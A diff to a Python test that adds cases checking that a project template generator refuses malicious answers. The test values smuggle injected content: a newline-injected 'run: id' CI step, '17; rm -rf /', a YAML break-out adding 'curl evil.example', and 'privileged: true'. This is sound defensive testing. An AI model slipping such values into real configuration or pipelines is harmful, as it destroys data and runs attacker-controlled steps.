@@ -117,6 +117,8 @@ def test_postgres_version_pins_the_image_and_the_data_volume(tmp_path: Path) -> 
         ("python_version", "3.11\n    - run: id", "Invalid choice"),
         ("postgres_version", "17; rm -rf /", "Invalid choice"),
         ("ci", "github", "Invalid choice"),
+        ("postgres_data_volume", "/x\n    steps:\n      - run: curl evil.example", "computed"),
+        ("postgres_data_volume", "/var/lib/postgresql\n    privileged: true", "computed"),
     ],
 )
 def test_invalid_answers_are_refused_and_nothing_is_written(
